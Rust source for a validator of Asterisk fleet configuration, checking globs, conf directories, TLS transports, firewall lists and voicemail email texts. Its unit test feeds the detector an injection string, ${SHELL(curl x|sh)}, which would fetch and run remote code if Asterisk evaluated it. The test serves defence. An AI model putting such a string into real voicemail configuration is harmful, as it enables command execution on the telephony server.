//! The project and its servers: conf dirs, transports, voicemail settings, firewall
//! policies and the address lists they name.

use std::collections::HashMap;

use crate::diagnostics::{Diagnostic, quote};
use crate::model::firewall::{FirewallPolicy, PortSpec};
use crate::model::{Origin, Sourced};
use crate::source::Segment;

use super::Checker;

impl<'a> Checker<'a> {
    pub(super) fn project(&mut self) {
        let Some(origin) = self.fleet.project_origin.clone() else {
            return;
        };
        let project = &self.fleet.project;
        for (key, globs) in [
            ("files", project.files.as_deref().unwrap_or_default()),
            ("exclude", project.exclude.as_slice()),
        ] {
            for (i, glob) in globs.iter().enumerate() {
                if let Err(e) = globset::Glob::new(glob) {
                    self.error(
                        "invalid-glob",
                        self.loc.value(&origin.field(key).at(&[Segment::Index(i)])),
                        format!("invalid glob {}: {}", quote(glob), e.kind()),
                        "fix the pattern; until then only astbase.yaml is read",
                    );
                }
            }
        }
        if let Some(dir) = &project.templates_dir {
            let path = self.sources.root.join(dir);
            let normal = crate::source::normal_path(dir);
            if dir.starts_with('/') || normal == ".." || normal.starts_with("../") {
                self.error(
                    "outside-repo",
                    self.loc.value(&origin.field("templates_dir")),
                    format!("templates directory {} is outside the repository", quote(dir)),
                    "templates are part of the repo's configuration: put them in a directory of the repo",
                );
            } else if !path.is_dir() {
                self.error(
                    "missing-directory",
                    self.loc.value(&origin.field("templates_dir")),
                    format!("templates directory {} does not exist", quote(dir)),
                    "create it (relative to the repo root) or remove `templates_dir`",
                );
            }
        }
        if let Some(dir) = &project.conf_dir
            && !dir.starts_with('/')
            && let Some(remote) = self
                .fleet
                .servers
                .iter()
                .find(|s| !s.is_local() && s.asterisk.conf_dir.is_none())
        {
            self.error(
                "relative-conf-dir",
                self.loc.value(&origin.field("conf_dir")),
                format!("conf_dir {} is relative, but remote server `{}` uses it", quote(dir), remote.name),
                "write an absolute path such as /etc/asterisk (relative paths only work for `host: local`)",
            );
        }
        self.firewall_policy(&origin.field("firewall"), &project.firewall);
        self.voicemail_settings(&origin.field("voicemail"), &project.voicemail);
        if let Some(t) = &project.defaults.transport {
            for s in &self.fleet.servers {
                if !s.transports.iter().any(|x| x.name == *t) && s.defaults.transport.is_none() {
                    self.error(
                        "unknown-reference",
                        self.loc.value(&origin.field("defaults").field("transport")),
                        format!("default transport `{t}` is not declared on server `{}`", s.name),
                        "declare it under that server's `transports`, or set `defaults.transport` per server",
                    );
                    break;
                }
            }
        }
    }

    pub(super) fn servers(&mut self) {
        let fleet = self.fleet;
        let mut systemnames: HashMap<String, &Origin> = HashMap::new();
        // Where a server's files are: (host, SSH port, conf dir), spelled one way.
        let mut targets: HashMap<(String, u16, String), &Sourced<crate::model::Server>> =
            HashMap::new();
        for s in &fleet.servers {
            let o = &s.origin;
            if let Some(t) = &s.test_call {
                self.target(&o.field("test_call"), s.name.as_str(), t);
            }
            let conf_dir = s.conf_dir(&fleet.project).to_owned();
            if let Some(dir) = &s.asterisk.conf_dir
                && !s.is_local()
                && !dir.starts_with('/')
            {
                self.error(
                    "relative-conf-dir",
                    self.loc.value(&o.field("asterisk").field("conf_dir")),
                    format!("conf_dir {} of remote server `{}` is not absolute", quote(dir), s.name),
                    "write an absolute path such as /etc/asterisk (relative paths only work for `host: local`)",
                );
            }
            if s.asterisk.binary.is_some() && s.asterisk.cli.is_some() {
                self.error(
                    "ambiguous-cli",
                    self.loc.value(&o.field("asterisk").field("cli")),
                    format!("server `{}` sets both asterisk.binary and asterisk.cli", s.name),
                    "keep one: `cli` is the whole command (e.g. [sudo, -n, asterisk, -rx]), `binary` only names the program",
                );
            }
            let key = (
                s.host.to_ascii_lowercase(),
                if s.is_local() { 0 } else { s.ssh_port() },
                crate::source::normal_path(&conf_dir),
            );
            if let Some(first) = targets.get(&key) {
                let d = Diagnostic::error(
                    "shared-conf-dir",
                    format!(
                        "servers `{}` and `{}` manage the same conf_dir {} on host `{}`",
                        first.name,
                        s.name,
                        quote(&conf_dir),
                        s.host
                    ),
                )
                .at(self.loc.value(&o.field("name")))
                .related(
                    self.loc.value(&first.origin.field("name")),
                    "the other server",
                )
                .hint("each server needs its own Asterisk configuration directory");
                self.out.push(d);
            } else {
                targets.insert(key, s);
            }
            let systemname = s
                .systemname
                .as_ref()
                .unwrap_or(&s.name)
                .as_str()
                .to_ascii_lowercase();
            if let Some(first) = systemnames.get(&systemname) {
                let d = Diagnostic::error(
                    "duplicate-systemname",
                    format!(
                        "server `{}` has the same systemname as another server",
                        s.name
                    ),
                )
                .at(self.loc.value(o))
                .related(self.loc.value(first), "the other server")
                .hint(
                    "systemname makes call ids unique across the fleet; give each server its own",
                );
                self.out.push(d);
            } else {
                systemnames.insert(systemname, o);
            }
            let mut transport_names: HashMap<String, usize> = HashMap::new();
            for (i, t) in s.transports.iter().enumerate() {
                let to = o.at(&[Segment::Key("transports".into()), Segment::Index(i)]);
                if let Some(first) = transport_names.insert(t.name.as_str().to_ascii_lowercase(), i)
                {
                    let d = Diagnostic::error(
                        "duplicate-name",
                        format!(
                            "transport `{}` is defined twice on server `{}`",
                            t.name, s.name
                        ),
                    )
                    .at(self.loc.value(&to.field("name")))
                    .related(
                        self.loc.value(&o.at(&[
                            Segment::Key("transports".into()),
                            Segment::Index(first),
                            Segment::Key("name".into()),
                        ])),
                        "first defined here",
                    );
                    self.out.push(d);
                }
                let tls = matches!(t.protocol, crate::model::server::TransportProtocol::Tls);
                if tls && (t.cert_file.is_none() || t.priv_key_file.is_none()) {
                    self.error(
                        "tls-needs-certificate",
                        self.loc.value(&to),
                        format!("TLS transport `{}` has no certificate", t.name),
                        "set `cert_file` and `priv_key_file`",
                    );
                }
                let host = match t.bind.rsplit_once(':') {
                    Some((host, _)) if !t.bind.ends_with(']') => host,
                    _ => t.bind.as_str(),
                };
                self.address_literal(&to.field("bind"), host);
                if let Some(port) = t.bind.rsplit_once(':').map(|(_, p)| p)
                    && !t.bind.ends_with(']')
                    && port.parse::<u16>().map_or(true, |p| p == 0)
                {
                    self.error(
                        "invalid-port",
                        self.loc.value(&to.field("bind")),
                        format!("port {} is not 1-65535", quote(port)),
                        "",
                    );
                }
                for (j, net) in t.local_net.iter().enumerate() {
                    self.cidr(&to.field("local_net").at(&[Segment::Index(j)]), &net.0);
                }
            }
            if let Some(t) = &s.defaults.transport {
                self.transport_ref(&o.field("defaults").field("transport"), s.name.as_str(), t);
            }
            if let Some(fw) = &s.firewall {
                self.firewall_policy(&o.field("firewall"), fw);
            }
            self.voicemail_settings(&o.field("voicemail"), &s.voicemail);
        }
    }

    fn voicemail_settings(
        &mut self,
        origin: &Origin,
        vm: &crate::model::server::VoicemailSettings,
    ) {
        if let Some(email) = &vm.from_email {
            self.email(&origin.field("from_email"), email);
        }
        for (key, text) in [
            ("email_subject", &vm.email_subject),
            ("email_body", &vm.email_body),
        ] {
            let Some(text) = text else { continue };
            if let Some(bad) = evaluated_in_voicemail_text(text) {
                self.error(
                    "unsafe-text",
                    self.loc.value(&origin.field(key)),
                    format!(
                        "{key} {} contains `{bad}`, which Asterisk would evaluate",
                        quote(text)
                    ),
                    "app_voicemail substitutes variables here: only its own ${VM_NAME}, ${VM_DUR}, \
                     ${VM_MSGNUM}, ${VM_MAILBOX}, ${VM_CALLERID}, ${VM_CIDNUM}, ${VM_CIDNAME}, \
                     ${VM_DATE}, ... are allowed; a function such as ${SHELL(...)} would run",
                );
            } else if text.contains('|') || text.trim() != text {
                self.error(
                    "unsafe-text",
                    self.loc.value(&origin.field(key)),
                    format!("{key} {} has a `|` or spaces at its ends", quote(text)),
                    "voicemail.conf options are separated by `|` and Asterisk strips the ends; remove them",
                );
            }
        }
    }

    fn firewall_policy(&mut self, origin: &Origin, fw: &FirewallPolicy) {
        for (key, lists) in [
            ("allow", &fw.allow),
            ("deny", &fw.deny),
            ("management", &fw.management),
        ] {
            if let Some(lists) = lists {
                self.address_list_refs(&origin.field(key), lists);
            }
        }
        if let (Some(allow), Some(deny)) = (&fw.allow, &fw.deny) {
            for (i, name) in deny.iter().enumerate() {
                if allow.contains(name) {
                    self.error(
                        "conflicting-lists",
                        self.loc
                            .value(&origin.field("deny").at(&[Segment::Index(i)])),
                        format!("address list `{name}` is both allowed and denied"),
                        "remove it from one of `allow` and `deny`",
                    );
                }
            }
        }
        for (i, rule) in fw.protected_ports.iter().flatten().enumerate() {
            if let PortSpec::Range(range) = &rule.port {
                let ok = range
                    .split_once('-')
                    .and_then(|(a, b)| Some((a.parse::<u16>().ok()?, b.parse::<u16>().ok()?)))
                    .is_some_and(|(a, b)| a >= 1 && a <= b);
                if !ok {
                    self.error(
                        "invalid-port",
                        self.loc.value(
                            &origin
                                .field("protected_ports")
                                .at(&[Segment::Index(i), Segment::Key("port".into())]),
                        ),
                        format!(
                            "port range {} is not FROM-TO with 1 <= FROM <= TO <= 65535",
                            quote(range)
                        ),
                        "",
                    );
                }
            }
        }
    }

    pub(super) fn address_lists(&mut self) {
        for l in &self.fleet.address_lists {
            for (i, a) in l.addresses.iter().enumerate() {
                let ao = l.origin.field("addresses").at(&[Segment::Index(i)]);
                self.cidr(&ao, &a.0);
                if l.addresses[..i].contains(a) {
                    self.warning(
                        "duplicate-address",
                        self.loc.value(&ao),
                        format!("{} is listed twice", quote(&a.0)),
                        "",
                    );
                }
            }
        }
    }
}

/// The first `${...}` or `$[...]` of a voicemail email text that is not one of
/// app_voicemail's own variables (`${VM_NAME}`, `${ORIG_VM_CALLERID}`, ...): the text is
/// evaluated on a channel, so a function there (`${SHELL(...)}`) would run.
fn evaluated_in_voicemail_text(text: &str) -> Option<String> {
    if let Some(i) = text.find("$[") {
        let fragment = &text[i..];
        let end = fragment.find(']').map_or(fragment.len(), |e| e + 1);
        return Some(fragment[..end].chars().take(32).collect());
    }
    let mut rest = text;
    while let Some(i) = rest.find("${") {
        let after = &rest[i + 2..];
        let name_len = after
            .find(|c: char| !(c.is_ascii_uppercase() || c == '_'))
            .unwrap_or(after.len());
        let name = &after[..name_len];
        let closed = after[name_len..].starts_with('}');
        let known = name.starts_with("VM_") || name.starts_with("ORIG_VM_");
        if !(closed && known) {
            let fragment = &rest[i..];
            let end = fragment.find('}').map_or(fragment.len(), |e| e + 1);
            return Some(fragment[..end].chars().take(32).collect());
        }
        rest = &after[name_len + 1..];
    }
    None
}

#[cfg(test)]
mod tests {
    #[test]
    fn voicemail_texts_may_name_app_voicemails_variables_and_nothing_else() {
        use super::evaluated_in_voicemail_text as bad;
        assert_eq!(
            bad("New message ${VM_MSGNUM} from ${VM_CALLERID} (${VM_DUR})"),
            None
        );
        assert_eq!(bad("${ORIG_VM_CALLERID}"), None);
        assert_eq!(
            bad("x ${SHELL(curl x|sh)}").as_deref(),
            Some("${SHELL(curl x|sh)}")
        );
        assert_eq!(bad("${VM_NAME:0:3}").as_deref(), Some("${VM_NAME:0:3}"));
        assert_eq!(bad("$[1+1]").as_deref(), Some("$[1+1]"));
        assert_eq!(bad("${ENV(HOME)}").as_deref(), Some("${ENV(HOME)}"));
    }
}
